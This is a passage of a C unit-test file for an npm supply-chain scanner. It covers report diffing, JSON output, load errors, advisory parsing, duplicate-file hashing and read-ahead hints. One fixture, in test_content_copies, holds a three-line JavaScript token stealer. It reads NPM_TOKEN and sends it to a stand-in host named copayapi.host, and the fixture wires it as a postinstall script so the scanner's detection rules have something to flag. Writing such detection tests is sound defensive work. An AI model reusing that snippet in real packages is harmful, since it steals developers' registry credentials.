    assert_int_equal(deps_fpset_read(a, strlen(a), &base, err, sizeof(err)), 0);
    assert_int_equal(base.n, r1->n_findings);
    size_t before = r4->n_findings;
    deps_report_suppress(r4, &base);
    assert_int_equal(r4->n_findings, 0);
    assert_int_equal(r4->suppressed, before);
    assert_int_equal(deps_report_max_severity(r4), -1);
    deps_fpset_free(&base);
    assert_int_equal(deps_fpset_read("{\"findings\":3}", 14, &base, err, sizeof(err)), -EBADMSG);
    assert_non_null(strstr(err, "findings"));
    assert_int_equal(deps_fpset_read("{", 1, &base, err, sizeof(err)), -EBADMSG);

    /* diff: drop the typo dependency */
    struct fixture w = x;
    static const char fewer[] = ROOT_PKG("\"g\":\"github:o/g\",\"a\":\"1\",\"lodashh\":\"1\"");
    w.f[0] = (struct deps_file){"package.json", fewer, sizeof(fewer) - 1};
    struct deps_report *r5 = scan_fx(&w);
    char *d = render(r5);
    struct deps_buf out = {0};
    int n = deps_report_diff(a, strlen(a), d, strlen(d), &out, err, sizeof(err));
    assert_true(n >= 2);
    assert_non_null(strstr(out.s, "- HIGH L2-TYPO-001 lodahs"));
    assert_non_null(strstr(out.s, "+ "));
    assert_non_null(strstr(out.s, "lodashh"));
    deps_buf_free(&out);
    assert_int_equal(deps_report_diff(a, strlen(a), a, strlen(a), &out, err, sizeof(err)), 0);
    assert_non_null(strstr(out.s, "0 added, 0 removed"));
    deps_buf_free(&out);
    assert_true(deps_report_diff(a, strlen(a), "[]", 2, &out, err, sizeof(err)) < 0);
    assert_int_equal(err[0], 'B');
    deps_buf_free(&out);

    free(a);
    free(b);
    free(c);
    free(d);
    deps_report_free(r1);
    deps_report_free(r2);
    deps_report_free(r3);
    deps_report_free(r4);
    deps_report_free(r5);
}

static void test_json_contract(void **state)
{
    struct fixture x = fx("package.json", ROOT_PKG("\"lodahs\":\"^1\""), NULL);
    struct deps_report *r = scan_fx(&x);
    struct deps_report_meta meta = {
        .tool_version = "9.9", .started_at = "2026-01-01T00:00:00Z", .duration_ms = 1.5};
    struct deps_buf b = {0};
    (void)state;
    deps_report_write_json(r, &meta, &b);
    static const char *const keys[] = {"\"corpus\": {",
                                       "\"version\": \"2026-02-01.1\"",
                                       "\"hash\": \"sha256:test\"",
                                       "\"packages_scanned\": 0",
                                       "\"summary\": {",
                                       "\"HIGH\": 1",
                                       "\"findings\": [",
                                       "\"rule_id\": \"L2-TYPO-001\"",
                                       "\"fingerprint\": \"fp1:",
                                       "\"started_at\"",
                                       "\"duration_ms\": 1.500"};
    for (size_t i = 0; i < sizeof(keys) / sizeof(keys[0]); i++)
        if (!strstr(b.s, keys[i]))
            fail_msg("missing %s in\n%s", keys[i], b.s);
    deps_buf_free(&b);
    deps_report_write_json(r, NULL, &b);
    assert_null(strstr(b.s, "started_at"));
    assert_null(strstr(b.s, "duration_ms"));
    deps_buf_free(&b);
    deps_report_write_table(r, &b);
    assert_non_null(strstr(b.s, "HIGH     L2-TYPO-001     lodahs  package.json:1"));
    deps_buf_free(&b);
    deps_report_free(r);
}

/* ------------------------------------------------------------------ errors */

static void expect_load_error(const struct fixture *x, const struct deps_limits *lim, int want,
                              const char *text)
{
    struct deps_project *p = NULL;
    struct deps_project_error e;
    int rc = deps_project_load(x->f, x->n, lim, &p, &e);
    if (rc != want || !strstr(e.message, text))
        fail_msg("rc %d (want %d): %s (want '%s')", rc, want, e.message, text);
    assert_null(p);
}

static void test_errors(void **state)
{
    struct fixture x;
    struct deps_limits small = {.max_files = 2};
    (void)state;
    x = fx("README.md", "hi", "src/package.json", "{}", NULL);
    expect_load_error(&x, NULL, -ENOENT, "package.json: not found at the project root");
    x = fx("package.json", "{\"name\": }", NULL);
    expect_load_error(&x, NULL, -EBADMSG, "package.json:1:10");
    x = fx("package.json", "[1]", NULL);
    expect_load_error(&x, NULL, -EBADMSG, "not a JSON object");
    x = fx("package.json", "{}", "package-lock.json", "{\"lockfileVersion\": 3, \"packages\": [",
           NULL);
    expect_load_error(&x, NULL, -EBADMSG, "package-lock.json:1");
    x = fx("package.json", "{}", "pnpm-workspace.yaml", "packages: [\n", NULL);
    expect_load_error(&x, NULL, -EBADMSG, "pnpm-workspace.yaml:");
    x = fx("package.json", "{\"workspaces\":[\"p/*\"]}", "p/a/package.json", "{oops", NULL);
    expect_load_error(&x, NULL, -EBADMSG, "p/a/package.json:1:2");
    x = fx("../package.json", "{}", NULL);
    expect_load_error(&x, NULL, -EINVAL, "not a relative path");
    x = fx("package.json", "{}", "package.json", "{}", NULL);
    expect_load_error(&x, NULL, -EINVAL, "given twice");
    x = fx("node_modules/a/package.json", "{}", "package.json", "{}", /* apart, not sorted */
           "node_modules/a/package.json", "{}", NULL);
    expect_load_error(&x, NULL, -EINVAL, "node_modules/a/package.json: given twice");
    x = fx("package.json", "{}", "a/package.json", "{}", "b/package.json", "{}", NULL);
    expect_load_error(&x, &small, -E2BIG, "more than the cap");
    struct deps_limits deep = {.max_depth = 2};
    x = fx("package.json", "{}", "node_modules/a/node_modules/b/node_modules/c/package.json", "{}",
           NULL);
    expect_load_error(&x, &deep, -E2BIG, "nested 3 deep");

    /* corpus errors name the file and line */
    struct deps_corpus *c = NULL;
    char err[256];
    struct deps_file bad = {"advisories.tsv", "# c\nx\t^1\tID\tSEVERE\tsummary\n", 28};
    assert_int_equal(deps_corpus_new(&bad, 1, "", &c, err, sizeof(err)), -EINVAL);
    assert_non_null(strstr(err, "advisories.tsv:2: severity"));
    bad = (struct deps_file){"advisories.tsv", "x\t>>1\tID\tHIGH\ts\n", 15};
    assert_int_equal(deps_corpus_new(&bad, 1, "", &c, err, sizeof(err)), -EINVAL);
    assert_non_null(strstr(err, "advisories.tsv:1: '>>1' is not a version range"));
    bad = (struct deps_file){"other.tsv", "", 0};
    assert_int_equal(deps_corpus_new(&bad, 1, "", &c, err, sizeof(err)), -EINVAL);
    assert_null(c);
}

/* The shipped corpus parses and its advisories name real ranges. */
static void test_shipped_advisories(void **state)
{
    const char *src = getenv("WARDEN_SOURCE_DIR");
    char path[1024];
    (void)state;
    snprintf(path, sizeof(path), "%s/rules/supply-chain/advisories.tsv", src ? src : ".");
    FILE *f = fopen(path, "rb");
    assert_non_null(f);
    static char buf[1 << 16];
    size_t n = fread(buf, 1, sizeof(buf), f);
    fclose(f);
    struct deps_file file = {"advisories.tsv", buf, n};
    struct deps_corpus *c = NULL;
    char err[256];
    if (deps_corpus_new(&file, 1, "", &c, err, sizeof(err)) != 0)
        fail_msg("%s", err);
    assert_true(c->n_advisories >= 20);
    assert_true(strncmp(c->version, "20", 2) == 0);
    deps_corpus_free(c);
}

/* ------------------------------------------------------------------ content */

/* A stand-in for SHA-256 (guards has none): 32 bytes from four FNV-1a 64 of the bytes. */
static void test_digest(const void *data, size_t len, uint8_t out[32])
{
    for (uint64_t k = 0; k < 4; k++) {
        uint64_t h = 0xcbf29ce484222325ull ^ k;
        for (size_t i = 0; i < len; i++)
            h = (h ^ ((const unsigned char *)data)[i]) * 0x100000001b3ull;
        memcpy(out + 8 * k, &h, 8);
    }
}

/* Copies of one file (a version installed twice, the same bytes elsewhere): with a hash
 * function the engine analyses each content once per path and flags and replays the hits;
 * the report is the one of analysing every file, and what depends on the path or on the
 * file being an install-time target still does. */
static void test_content_copies(void **state)
{
    static const char iocs[] = "# version: 2026-03-01.1\ndomain\tcopayapi.host\ttest incident\n";
    static const char stealer[] = "const https = require('https');\n"
                                  "const t = process.env.NPM_TOKEN;\n"
                                  "https.get('https://copayapi.host/c?t=' + t);\n";
    static const char elf[] = "\x7f"
                              "ELF\x02\x01\x01xxxxxxxxxx"; /* the fixtures are C strings */
#define MAN_A                                                                                 \
    "{\"name\":\"a\",\"version\":\"1.0.0\",\"license\":\"MIT\",\"scripts\":{\"postinstall\":" \
    "\"node setup.js\"}}"
    struct deps_file cf[] = {{"iocs.tsv", iocs, sizeof(iocs) - 1}};
    struct deps_corpus *c = NULL;
    struct deps_report *r[2];
    char err[256];
    (void)state;

    assert_int_equal(deps_corpus_new(cf, 1, "", &c, err, sizeof(err)), 0);
    struct fixture x =
        fx("package.json", ROOT_PKG("\"a\":\"1.0.0\",\"b\":\"1.0.0\",\"c\":\"1.0.0\""),
           "node_modules/a/package.json", MAN_A, "node_modules/a/setup.js", stealer,
           "node_modules/a/bin/tool", elf, "node_modules/b/package.json",
           "{\"name\":\"b\",\"version\":\"1.0.0\",\"license\":\"MIT\"}",
           "node_modules/b/node_modules/a/package.json", MAN_A,
           "node_modules/b/node_modules/a/setup.js", stealer,
           "node_modules/b/node_modules/a/bin/tool", elf, "node_modules/c/package.json",
           "{\"name\":\"c\",\"version\":\"1.0.0\",\"license\":\"MIT\"}", "node_modules/c/setup.js",
           stealer, "node_modules/c/tool", elf, NULL);
    for (int pass = 0; pass < 2; pass++) {
        struct deps_project *p = NULL;
        struct deps_project_error e;
        c->sha256 = pass ? test_digest : NULL; /* pass 1: through the memo */
        assert_int_equal(deps_project_load(x.f, x.n, NULL, &p, &e), 0);
        assert_int_equal(deps_scan(p, c, &r[pass]), 0);
        deps_project_free(p);
    }
    if (r[1]->n_findings != r[0]->n_findings) {
        dump(r[0]);
        dump(r[1]);
    }
    assert_int_equal(r[1]->n_findings, r[0]->n_findings);
    for (size_t i = 0; i < r[0]->n_findings; i++) {
        const struct deps_finding *f0 = &r[0]->findings[i], *f1 = &r[1]->findings[i];
        assert_string_equal(f1->rule_id, f0->rule_id);
        assert_int_equal(f1->severity, f0->severity);
        assert_string_equal(f1->package, f0->package);
        assert_string_equal(f1->file, f0->file);
        assert_int_equal(f1->line, f0->line);
        assert_string_equal(f1->message, f0->message);
        assert_string_equal(f1->fingerprint, f0->fingerprint);
    }
    /* both copies of a: read at install time, credentials + network, in its own file */
    size_t cred_a = 0, ioc = 0, bund = 0;
    for (size_t i = 0; i < r[1]->n_findings; i++) {
        const struct deps_finding *f = &r[1]->findings[i];
        if (strcmp(f->rule_id, "L2-CRED-001") == 0 && strcmp(f->package, "a") == 0) {
            cred_a++;
            assert_int_equal(f->severity, DEPS_SEV_CRITICAL);
            assert_true(strcmp(f->file, "node_modules/a/setup.js") == 0 ||
                        strcmp(f->file, "node_modules/b/node_modules/a/setup.js") == 0);
        }
        ioc += strcmp(f->rule_id, "L2-IOC-001") == 0;
        if (strcmp(f->rule_id, "L2-BUND-001") == 0) {
            bund++;
            /* in a's bin/ folder, where packages ship binaries; at c's root, not */
            assert_int_equal(f->severity,
                             strcmp(f->package, "a") == 0 ? DEPS_SEV_LOW : DEPS_SEV_MEDIUM);
        }
    }
    assert_true(cred_a >= 2);
    assert_int_equal(count(r[1], "L2-CRED-001", "c"), 0); /* same bytes, not run at install */
    assert_int_equal(ioc, 3);
    assert_int_equal(bund, 3);
    deps_report_free(r[0]);
    deps_report_free(r[1]);
    c->sha256 = NULL;
    deps_corpus_free(c);
#undef MAN_A
}

/* A source that records the content rules' hints (will_read) and reads. */
#define HINT_FILES 48
struct hint_src {
    const struct deps_file *files;
    int hinted[HINT_FILES], read[HINT_FILES];
    size_t outstanding, max_outstanding, reads;
    int on;
};

static int hint_index(const struct hint_src *h, const struct deps_file *f)
{
    for (int k = 0; k < HINT_FILES; k++)
        if (strcmp(h->files[k].path, f->path) == 0)
            return k;
    fail_msg("not a file of the project: %s", f->path);
    return -1;
}

static int hint_will_read(void *ctx, const struct deps_file *f)
{
    struct hint_src *h = ctx;
    if (f == NULL || !h->on)
        return h->on;
    int k = hint_index(h, f);
    assert_int_equal(h->hinted[k], 0); /* once */
    assert_int_equal(h->read[k], 0);   /* before its read */
    h->hinted[k] = 1;
    if (++h->outstanding > h->max_outstanding)
        h->max_outstanding = h->outstanding;
    return 1;
}

/* Each file's bytes: a comment holding its index NN, then "x=1;"; in a batch, one after the other
 * in the batch's bytes (three files' worth), as the disk layer keeps them. */
#define HINT_TEXT 11
static char hint_arena[HINT_FILES * HINT_TEXT + 1]; /* + the last one's NUL */
static size_t hint_used, hint_cap, hint_room, hint_batches, hint_most;

static int hint_read(void *ctx, const struct deps_file *f, const char **data, size_t *len)
{
    struct hint_src *h = ctx;
    int k = hint_index(h, f);
    if (hint_cap && hint_used + HINT_TEXT > hint_cap)
        return -ENOBUFS;
    h->read[k]++;
    h->reads++;
    if (h->hinted[k])
        h->outstanding--;
    char *d = hint_arena + hint_used;
    snprintf(d, HINT_TEXT + 1, "/*%02d*/x=1;\n", k);
    hint_used += hint_cap ? HINT_TEXT : 0;
    if (hint_cap && hint_used / HINT_TEXT > hint_most)
        hint_most = hint_used / HINT_TEXT;
    *data = d;
    *len = HINT_TEXT;
    return 0;
}

static int hint_batch(void *ctx, size_t bytes)
{
    (void)ctx;
    hint_used = 0;
    hint_cap = bytes ? hint_room * HINT_TEXT : 0;
    hint_batches += bytes > 0;
    return 0;
}

/* The digest the scan asks for: each file's bytes, hashed once, while they are still its
 * own (a batch's reads must not overwrite one another before they are hashed). */
static int hint_hashed[HINT_FILES];

static void hint_digest(const void *data, size_t len, uint8_t out[32])
{
    const char *t = data;
    int k;
    memset(out, 0, 32);
    if (len != HINT_TEXT || sscanf(t, "/*%2d*/", &k) != 1 || k < 0 || k >= HINT_FILES)
        return; /* a manifest */
    assert_memory_equal(t + 6, "x=1;\n", 5);
    hint_hashed[k]++;
    out[0] = (uint8_t)k;
}

/* Read-ahead hints (a source reading a tree not in the page cache): each file the content
 * rules read is named once, before its read, and never more than a few ahead (a hint whose
 * read is far off costs the disk layer a descriptor, and one it drops costs a second open);
 * no hint for a file not read; none at all while the source says it does not use them. */
static void test_read_ahead_hints(void **state)
{
    static const char iocs[] = "# version: 2026-03-01.1\ndomain\tcopayapi.host\ttest incident\n";
    static char paths[HINT_FILES][64];
    struct deps_file cf[] = {{"iocs.tsv", iocs, sizeof(iocs) - 1}};
    struct deps_file f[HINT_FILES];
    struct deps_corpus *c = NULL;
    char err[256];
    size_t n = 0;
    (void)state;

    assert_int_equal(deps_corpus_new(cf, 1, "", &c, err, sizeof(err)), 0);

    f[n++] = (struct deps_file){"package.json", ROOT_PKG("\"a\":\"1.0.0\""), 0};
    f[n++] = (struct deps_file){"node_modules/a/package.json",
                                "{\"name\":\"a\",\"version\":\"1.0.0\",\"license\":\"MIT\"}", 0};
    for (; n < HINT_FILES; n++) {
        /* lazy files (no bytes yet), with files of an unread kind and an empty file among
         * them */
        if (n % 7 == 3)
            snprintf(paths[n], sizeof(paths[n]), "node_modules/a/f%02zu.js.map", n);
        else
            snprintf(paths[n], sizeof(paths[n]), "node_modules/a/f%02zu.js", n);
        f[n] = (struct deps_file){paths[n], NULL, n == 30 ? 0 : 100};
    }
    for (size_t i = 0; i < 2; i++)
        f[i].len = strlen(f[i].data);
    c->sha256 = hint_digest;
    /* mode 2: hints, and reads in batches with room for three files; mode 3: for all of
     * them, where the batches are cut to the files named ahead */
    for (int mode = 0; mode < 4; mode++) {
        int on = mode > 0;
        struct hint_src h = {.files = f, .on = on};
        struct deps_file_source src = {&h, hint_read, hint_will_read,
                                       mode >= 2 ? hint_batch : NULL};
        hint_room = mode == 2 ? 3 : HINT_FILES;
        hint_most = 0;
        memset(hint_hashed, 0, sizeof(hint_hashed));
        hint_batches = 0;
        struct deps_project *p = NULL;
        struct deps_project_error e;
        struct deps_report *r = NULL;
        int rc = deps_project_load(f, n, NULL, &p, &e);
        if (rc != 0)
            fail_msg("load: %d %s", rc, e.message);
        p->source = &src;
        assert_int_equal(deps_scan(p, c, &r), 0);
        size_t lazy_read = 0, hinted = 0;
        for (size_t i = 0; i < n; i++) {
            bool lazy = f[i].data == NULL && f[i].len > 0 && strstr(f[i].path, ".map") == NULL;
            assert_int_equal(h.read[i], lazy ? 1 : 0);
            assert_true(!h.hinted[i] || lazy);
            lazy_read += lazy;
            hinted += (size_t)h.hinted[i];
        }
        assert_true(lazy_read > 30);
        /* all but the first read, which is not ahead of anything */
        assert_int_equal(hinted, on ? lazy_read - 1 : 0);
        assert_int_equal(h.reads, lazy_read);
        assert_int_equal(h.outstanding, 0);
        /* the file being read and CONTENT_AHEAD (scan_rules.c) after it */
        if (h.max_outstanding > (on ? 1 + 16 : 0))
            fail_msg("%zu hints waiting for their reads", h.max_outstanding);
        if (on)
            assert_true(h.max_outstanding >= 8);
        for (size_t i = 2; i < n; i++)
            assert_int_equal(hint_hashed[i], h.read[i]);
        if (mode == 2)
            assert_true(hint_batches >= lazy_read / 3);
        if (mode == 3) /* CONTENT_AHEAD (scan_rules.c) */
            assert_true(hint_most == 16 && hint_batches >= lazy_read / 16);
        assert_int_equal(hint_cap, 0); /* batches ended */
        deps_report_free(r);
        deps_project_free(p);
    }
    c->sha256 = NULL;
    deps_corpus_free(c);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_semver),
        cmocka_unit_test(test_post_install),
        cmocka_unit_test(test_dep_confusion),
        cmocka_unit_test(test_typo),
        cmocka_unit_test(test_manifest),
        cmocka_unit_test(test_install_layout),
        cmocka_unit_test(test_fork_and_provenance),
        cmocka_unit_test(test_maintainers),
        cmocka_unit_test(test_engines_and_license),
        cmocka_unit_test(test_lockfile),
        cmocka_unit_test(test_pnpm_settings),
        cmocka_unit_test(test_sideload),
        cmocka_unit_test(test_advisories),
        cmocka_unit_test(test_npmrc),
        cmocka_unit_test(test_workspaces),
        cmocka_unit_test(test_determinism_and_fingerprints),
        cmocka_unit_test(test_json_contract),
        cmocka_unit_test(test_errors),
        cmocka_unit_test(test_shipped_advisories),
        cmocka_unit_test(test_content_copies),
        cmocka_unit_test(test_read_ahead_hints),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
